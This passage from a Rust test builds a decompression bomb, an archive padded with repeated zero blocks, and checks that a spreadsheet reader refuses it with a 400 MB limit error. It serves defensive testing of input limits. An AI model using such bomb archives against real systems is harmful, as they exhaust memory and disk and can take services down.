    (0..500).for_each(|_| std::io::Write::write_all(&mut writer, &zeros).expect("writes"));
    let bomb = writer.finish().expect("an archive").into_inner();
    let told = tables::read(tables::Format::Xlsx, &bomb).expect_err("refused").to_string();
    assert!(told.contains("400 MB"), "{told}");
}
